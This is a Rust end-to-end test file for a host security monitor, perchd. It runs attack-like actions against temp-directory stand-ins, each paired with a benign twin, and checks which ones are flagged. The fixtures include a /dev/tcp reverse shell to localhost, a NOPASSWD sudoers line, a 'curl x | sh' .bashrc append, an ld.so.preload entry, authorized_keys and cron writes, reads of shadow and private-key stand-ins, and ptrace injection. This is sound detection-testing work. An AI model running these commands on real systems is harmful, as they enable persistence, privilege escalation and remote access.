//! Detections over security syscalls, network changes and OOM kills,
//! against real behaviour: for every such built-in rule the real thing
//! raises its flag with its severity on the right process, and the nearest
//! benign behaviour raises none.  Nothing outside temp dirs is changed:
//! perchd.toml's [watch] points at a temp dir standing in for /etc, /home
//! and /var/log (the path rules match a path's shape, so a stand-in counts),
//! `core_pattern` gets its own value back, and a kernel module load is
//! attempted with a file that is not a module.  One perchd serves every case.
#![expect(
    clippy::expect_used,
    reason = "end-to-end tests: a broken environment should fail the test loudly"
)]
use std::{
    collections::HashMap,
    fs,
    io::{BufRead as _, BufReader, Write as _},
    net::TcpListener,
    os::unix::fs::{PermissionsExt as _, symlink},
    path::Path,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use perch_e2e::{
    Perchd,
    flags::{
        WAIT, accept_bounded, all_flags, flag, in_cgroup, memory_cgroup, run, session, under,
        wait_for,
    },
    have_root_or_skip,
    procs::ChildGuard,
};
use perch_proto::v1::{self as pb, Severity};

const PYTHON: &str = "/usr/bin/python3";

/// Attaches to pid argv[1] with ptrace, waits for it to stop, then (with
/// argv[2] == "poke") writes a word at an address it does not map (the
/// kernel refuses; the attempt is made), and detaches.
const PTRACE: &str = r"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = int(sys.argv[1])
assert libc.ptrace(16, pid, None, None) == 0, ctypes.get_errno()
os.waitpid(pid, 0x40000000)
if sys.argv[2] == 'poke':
    libc.ptrace(5, pid, ctypes.c_void_p(0x10000), ctypes.c_void_p(0))
libc.ptrace(17, pid, None, None)
";

/// `process_vm_writev` into pid argv[1], or into a child of its own with
/// argv[1] == "child": 4 bytes at an address the target does not map.
const VM_WRITE: &str = r"
import ctypes, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
child = subprocess.Popen(['/bin/sleep', '30']) if sys.argv[1] == 'child' else None
pid = child.pid if child else int(sys.argv[1])
buf = ctypes.create_string_buffer(b'abcd')
local = iovec(ctypes.cast(buf, ctypes.c_void_p), 4)
remote = iovec(ctypes.c_void_p(0x10000), 4)
libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
if child:
    child.kill(); child.wait()
";

/// `finit_module` on argv[1], a file that is not a module: refused by the
/// kernel, an attempt all the same.
const FINIT: &str = r"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open(sys.argv[1], os.O_RDONLY)
assert libc.syscall(313, fd, b'', 0) != 0
";

/// `r0 = 0; exit` loaded as a socket filter.
const BPF_LOAD: &str = r"
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
insns = struct.pack('<BBhiBBhi', 0xb7, 0, 0, 0, 0x95, 0, 0, 0)
prog = ctypes.create_string_buffer(insns)
lic = ctypes.create_string_buffer(b'GPL')
attr = ctypes.create_string_buffer(128)
struct.pack_into('<IIQQ', attr, 0, 1, 2, ctypes.addressof(prog), ctypes.addressof(lic))
struct.pack_into('16s', attr, 48, b'perch_e2e')
assert libc.syscall(321, 5, attr, 128) >= 0, ctypes.get_errno()
";

/// A unix socket (not a network one) dup'd onto stdin by an interpreter.
const UNIX_STDIN: &str = "import os, socket; a, b = socket.socketpair(); os.dup2(a.fileno(), 0)";

/// Listens on TCP port argv[1] (0: any) with `SO_REUSEPORT`, prints the
/// port, then sleeps argv[2] seconds.
const LISTEN: &str = r"
import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
s.bind(('127.0.0.1', int(sys.argv[1])))
s.listen()
print(s.getsockname()[1], flush=True)
time.sleep(float(sys.argv[2]))
";

/// Fills 200 MB, more than the memory cgroup it was put in allows.
const HOG: &str = "b = bytearray(200 << 20)\nfor i in range(0, len(b), 4096): b[i] = 1";

/// A listener on `port` (0: any), in its own session; with its port.
fn listen(port: u16, secs: &str) -> (ChildGuard, u16) {
    let mut child = ChildGuard::spawn(
        perch_e2e::flags::new_session(&mut Command::new(PYTHON))
            .args(["-c", LISTEN, &port.to_string(), secs])
            .stdin(Stdio::null())
            .stdout(Stdio::piped()),
    );
    let out = child.child.stdout.take().expect("stdout");
    let mut line = String::new();
    BufReader::new(out).read_line(&mut line).expect("port");
    (child, line.trim().parse().expect("a port number"))
}

/// Waits until perchd lists `pid`'s listening socket (so it is known).
async fn wait_listening(client: &mut perch_e2e::events::Client, pid: u32, port: u16) {
    let deadline = Instant::now() + WAIT;
    loop {
        let mut stream = client
            .list_connections(pb::ListConnectionsRequest {
                pids: vec![pid],
                ..Default::default()
            })
            .await
            .expect("ListConnections")
            .into_inner();
        while let Some(r) = stream.message().await.expect("chunk") {
            if r.listening.iter().any(|l| l.local_port == u32::from(port)) {
                return;
            }
        }
        assert!(Instant::now() < deadline, "perchd never saw port {port}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

fn sh(script: &str) -> u32 {
    run(&["/bin/sh", "-c", script])
}

#[tokio::test(flavor = "multi_thread")]
#[expect(
    clippy::too_many_lines,
    reason = "one perchd serves every case: benign cases, then the real ones, then the checks"
)]
async fn security_rules_on_real_behaviour() {
    if !have_root_or_skip("security_rules_on_real_behaviour") {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).expect("chmod");
    let root = fs::canonicalize(dir.path()).expect("canonical");
    let w = |rel: &str| root.join("w").join(rel).display().to_string();
    for d in [
        "etc/cron.d",
        "etc/systemd/system",
        "etc/sudoers.d",
        "home/u/.ssh",
        "var/log",
        "cg",
        "mnt",
    ] {
        fs::create_dir_all(w(d)).expect("mkdir");
    }
    fs::create_dir_all(root.join("cgfs")).expect("mkdir");
    let config = root.join("perchd.toml");
    fs::write(
        &config,
        format!(
            "[watch]\nmodify = [\"{w}/\", \"*/release_agent\", \"/proc/sys/kernel/core_pattern\"]\n\
             read = [\"{w}/etc/shadow\", \"{w}/home/u/.ssh/id_\"]\ntruncate = [\"{w}/var/log/\"]\n",
            w = root.join("w").display()
        ),
    )
    .expect("config");
    // A listener from before perchd: its port is known, a second socket
    // on it later is not new.
    let (mut old_listener, old_port) = listen(0, "300");
    let perchd = Perchd::start(&["--config", &config.display().to_string()]).await;
    let mut client = perchd.client().await.expect("connect");
    wait_listening(&mut client, old_listener.pid(), old_port).await;
    for f in [
        "etc/shadow",
        "etc/shadow.md",
        "home/u/.ssh/id_ed25519",
        "home/u/.ssh/id_ed25519.pub",
    ] {
        fs::write(w(f), "secret\n").expect("fixture");
    }
    fs::write(w("var/log/auth.log"), "old entries\n").expect("fixture");
    fs::write(w("notamodule.ko"), "not an ELF module\n").expect("fixture");
    symlink("/bin/sh", root.join("dpkg")).expect("symlink");
    let dpkg = root.join("dpkg").display().to_string();

    // ---- the nearest benign behaviours first.
    let mut sleeper = ChildGuard::spawn(Command::new("/bin/sleep").arg("300"));
    let target = sleeper.pid().to_string();
    let mut negatives: HashMap<&str, u32> = HashMap::new();
    let strace = run(&["/usr/bin/strace", "-f", "-o", "/dev/null", "/bin/true"]);
    negatives.insert("ptrace_attach", strace);
    negatives.insert("ptrace_inject", strace);
    negatives.insert("process_vm_write", run(&[PYTHON, "-c", VM_WRITE, "child"]));
    negatives.insert(
        "ld_so_preload_write",
        sh(&format!("echo x > {}", w("etc/ld.so.conf"))),
    );
    let pkg_cron = format!(
        "/bin/sh -c 'echo \"# pkg\" > {}'; true",
        w("etc/cron.d/pkg")
    );
    negatives.insert("cron_write", run(&[&dpkg, "-c", &pkg_cron]));
    let pkg_unit = format!(
        "/bin/sh -c 'echo \"[Unit]\" > {}'; true",
        w("etc/systemd/system/pkg.service")
    );
    negatives.insert("systemd_unit_write", run(&[&dpkg, "-c", &pkg_unit]));
    negatives.insert(
        "shell_rc_write",
        sh(&format!("echo ls >> {}", w("home/u/.bash_history"))),
    );
    negatives.insert(
        "sudoers_write",
        sh(&format!("echo x > {}", w("etc/sudo.conf"))),
    );
    negatives.insert(
        "authorized_keys_write",
        sh(&format!("echo x > {}", w("home/u/.ssh/known_hosts"))),
    );
    negatives.insert(
        "sensitive_file_read",
        run(&["/bin/cat", &w("etc/shadow.md")]),
    );
    negatives.insert(
        "private_key_read",
        run(&["/bin/cat", &w("home/u/.ssh/id_ed25519.pub")]),
    );
    negatives.insert("kernel_module_load", run(&["/bin/cat", "/proc/modules"]));
    negatives.insert(
        "unshare_user_mount_ns",
        run(&["/usr/bin/unshare", "-m", "/bin/true"]),
    );
    // The host's mount namespace, as this test (and perchd) see it.
    let host_mnt = format!("--mount=/proc/{}/ns/mnt", std::process::id());
    negatives.insert(
        "setns_host_namespace",
        run(&["/usr/bin/nsenter", &host_mnt, "/bin/true"]),
    );
    let at = w("mnt");
    negatives.insert(
        "mount_host_or_cgroup_in_ns",
        run(&[
            "/usr/bin/unshare",
            "-m",
            "--propagation",
            "private",
            "/bin/mount",
            "-t",
            "tmpfs",
            "perch-e2e",
            &at,
        ]),
    );
    negatives.insert(
        "release_agent_write",
        sh(&format!("echo x > {}", w("cg/release_agent.bak"))),
    );
    negatives.insert(
        "core_pattern_write",
        run(&["/bin/cat", "/proc/sys/kernel/core_pattern"]),
    );
    negatives.insert(
        "log_truncation",
        sh(&format!("echo new >> {}", w("var/log/auth.log"))),
    );
    negatives.insert("shell_stdio_socket", run(&[PYTHON, "-c", UNIX_STDIN]));
    // A chroot on the host into a prepared directory (a build chroot).
    let jail = root.join("jail").display().to_string();
    fs::create_dir_all(&jail).expect("jail");
    let chroot_into = |dir: &str| format!("import os; os.chroot({dir:?})");
    negatives.insert(
        "chroot_escape_shape",
        run(&[PYTHON, "-c", &chroot_into(&jail)]),
    );
    negatives.insert("bpf_program_load", perchd.pid());
    let (mut same_port, _) = listen(old_port, "300");
    negatives.insert("new_listening_port", same_port.pid());
    let mut killed = ChildGuard::spawn(Command::new("/bin/sleep").arg("300"));
    negatives.insert("oom_kill", killed.pid());
    killed.kill();

    // ---- the real behaviours.
    let attach = run(&[PYTHON, "-c", PTRACE, &target, "attach"]);
    let poke = run(&[PYTHON, "-c", PTRACE, &target, "poke"]);
    let vm = run(&[PYTHON, "-c", VM_WRITE, &target]);
    sleeper.kill();
    let preload = sh(&format!("echo /tmp/evil.so > {}", w("etc/ld.so.preload")));
    let cron = sh(&format!(
        "echo '* * * * * root true' > {}",
        w("etc/cron.d/job")
    ));
    fs::write(w("unit.tmp"), "[Service]\nExecStart=/bin/true\n").expect("unit");
    let rename = format!(
        "import os; os.rename({:?}, {:?})",
        w("unit.tmp"),
        w("etc/systemd/system/evil.service")
    );
    let unit = run(&[PYTHON, "-c", &rename]);
    let rc = sh(&format!("echo 'curl x | sh' >> {}", w("home/u/.bashrc")));
    let sudoers = sh(&format!(
        "echo 'u ALL=(ALL) NOPASSWD: ALL' > {}",
        w("etc/sudoers.d/u")
    ));
    let keys = sh(&format!(
        "echo 'ssh-ed25519 AAAA' >> {}",
        w("home/u/.ssh/authorized_keys")
    ));
    let shadow = run(&["/bin/cat", &w("etc/shadow")]);
    let key = run(&["/bin/cat", &w("home/u/.ssh/id_ed25519")]);
    let module = run(&[PYTHON, "-c", FINIT, &w("notamodule.ko")]);
    let userns = run(&[
        "/usr/bin/setpriv",
        "--reuid=nobody",
        "--regid=nogroup",
        "--clear-groups",
        "/usr/bin/unshare",
        "-Urm",
        "/bin/true",
    ]);
    let setns = run(&[
        "/usr/bin/unshare",
        "-m",
        "/usr/bin/nsenter",
        &host_mnt,
        "/bin/true",
    ]);
    let cgfs = root.join("cgfs").display().to_string();
    let mount = run(&[
        "/usr/bin/unshare",
        "-m",
        "--propagation",
        "private",
        "/bin/mount",
        "-t",
        "cgroup2",
        "none",
        &cgfs,
    ]);
    let chroot_ns = run(&["/usr/bin/unshare", "-m", PYTHON, "-c", &chroot_into(&jail)]);
    // Another process's root through procfs (this test's: pid 1's may be
    // refused in a sandbox).
    let other_root = format!("/proc/{}/root", std::process::id());
    let chroot_proc = run(&[PYTHON, "-c", &chroot_into(&other_root)]);
    let agent = sh(&format!("echo /tmp/x > {}", w("cg/release_agent")));
    let pattern = fs::read("/proc/sys/kernel/core_pattern").expect("core_pattern");
    let same = format!(
        "import sys; open('/proc/sys/kernel/core_pattern', 'wb').write({pattern:?}.encode('latin-1'))",
        pattern = String::from_utf8_lossy(&pattern).trim_end().to_owned() + "\n"
    );
    let core = run(&[PYTHON, "-c", &same]);
    assert_eq!(
        fs::read("/proc/sys/kernel/core_pattern").expect("read back"),
        pattern
    );
    let logs = sh(&format!(": > {}", w("var/log/auth.log")));
    fs::write(w("var/log/old.log"), "x\n").expect("fixture");
    let log_rm = run(&["/bin/rm", &w("var/log/old.log")]);
    let log_cut = run(&["/usr/bin/truncate", "-s", "0", &w("var/log/auth.log")]);
    let shell_l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let shell_port = shell_l.local_addr().expect("addr").port();
    let rev = session(&[
        "/bin/bash",
        "-c",
        &format!("exec /bin/bash -i >& /dev/tcp/127.0.0.1/{shell_port} 0>&1"),
    ]);
    let mut conn = accept_bounded(&shell_l);
    let bpf = run(&[PYTHON, "-c", BPF_LOAD]);
    let (mut new_listener, _) = listen(0, "300");
    let oom = memory_cgroup(32 << 20);
    let oom_cg = oom.leaf.clone();
    let mut hog = ChildGuard::spawn(in_cgroup(
        Command::new(PYTHON).args(["-c", HOG]).stdin(Stdio::null()),
        &oom_cg,
    ));
    let hog_pid = hog.pid();
    let status = tokio::task::block_in_place(|| hog.wait());
    drop(oom);
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&status),
        Some(9),
        "OOM kill"
    );

    let mut want = vec![
        ("ptrace_attach", attach, Severity::Medium),
        ("ptrace_inject", poke, Severity::High),
        ("process_vm_write", vm, Severity::High),
        ("ld_so_preload_write", preload, Severity::High),
        ("cron_write", cron, Severity::Medium),
        ("systemd_unit_write", unit, Severity::Medium),
        ("shell_rc_write", rc, Severity::Medium),
        ("sudoers_write", sudoers, Severity::Medium),
        ("authorized_keys_write", keys, Severity::Medium),
        ("sensitive_file_read", shadow, Severity::Medium),
        ("private_key_read", key, Severity::Medium),
        ("unshare_user_mount_ns", userns, Severity::Low),
        ("setns_host_namespace", setns, Severity::Medium),
        ("mount_host_or_cgroup_in_ns", mount, Severity::High),
        ("chroot_escape_shape", chroot_ns, Severity::High),
        ("chroot_escape_shape", chroot_proc, Severity::High),
        ("release_agent_write", agent, Severity::Critical),
        ("core_pattern_write", core, Severity::High),
        ("log_truncation", logs, Severity::Medium),
        ("log_truncation", log_rm, Severity::Medium),
        ("log_truncation", log_cut, Severity::Medium),
        ("shell_stdio_socket", rev.pid(), Severity::High),
        ("reverse_shell", rev.pid(), Severity::High),
        ("bpf_program_load", bpf, Severity::Low),
        ("new_listening_port", new_listener.pid(), Severity::Low),
        ("oom_kill", hog_pid, Severity::Medium),
    ];
    // A kernel built without modules has no finit_module to trace; then
    // perchd must say so (the rule's logic is covered by the unit tests).
    if Path::new("/proc/modules").exists() {
        want.push(("kernel_module_load", module, Severity::Medium));
    } else {
        let info = client
            .get_info(pb::GetInfoRequest::default())
            .await
            .expect("GetInfo")
            .into_inner();
        let cap = info.capabilities.iter().find(|c| c.name == "module_load");
        assert!(cap.is_some_and(|c| !c.available), "{cap:?}");
    }
    let pairs: Vec<(&str, u32)> = want.iter().map(|(r, p, _)| (*r, *p)).collect();
    let flags = wait_for(&mut client, &pairs).await;
    let _ = conn.write_all(b"exit\n");
    for &(rule, pid, severity) in &want {
        let f = flag(&flags, rule, pid);
        assert_eq!(
            (f.severity(), f.process.map(|k| k.pid)),
            (severity, Some(pid)),
            "{rule}: {f:#?}"
        );
    }
    let ops = |rule: &str, pid: u32| flag(&flags, rule, pid).kind();
    assert_eq!(
        ops("new_listening_port", new_listener.pid()),
        pb::FlagKind::Ops
    );
    assert_eq!(ops("oom_kill", hog_pid), pb::FlagKind::Ops);
    let cron_flag = flag(&flags, "cron_write", cron);
    assert!(
        cron_flag.description.contains(&w("etc/cron.d/job")),
        "{cron_flag:#?}"
    );

    // The benign twins: none flagged, or only as excepted (package
    // managers' writes are shown as excepted, not counted).
    let flags = all_flags(&mut client).await;
    for (rule, pid) in &negatives {
        let hit: Vec<_> = flags
            .iter()
            .filter(|f| f.rule_id == *rule && under(f, *pid) && !f.excepted)
            .collect();
        assert!(
            hit.is_empty(),
            "benign case of {rule} (pid {pid}) flagged: {hit:#?}"
        );
    }
    let pkg = flags
        .iter()
        .find(|f| f.rule_id == "cron_write" && under(f, negatives["cron_write"]))
        .expect("the package manager's cron write is shown, as excepted");
    assert!(
        pkg.excepted && pkg.exception_reason.contains("package"),
        "{pkg:#?}"
    );

    // The reverse shell: reverse_shell plus the stdio dup, two distinct
    // high flags in one trace, which is notable.
    let trace_id = &flag(&flags, "shell_stdio_socket", rev.pid()).trace_id;
    assert_eq!(trace_id, &flag(&flags, "reverse_shell", rev.pid()).trace_id);
    let traces = client
        .list_traces(pb::ListTracesRequest::default())
        .await
        .expect("ListTraces")
        .into_inner()
        .traces;
    let t = traces
        .iter()
        .find(|t| &t.id == trace_id)
        .expect("the trace");
    assert!(t.notable && t.unique_flag_count >= 2, "{t:#?}");
    old_listener.kill();
    same_port.kill();
    new_listener.kill();
}
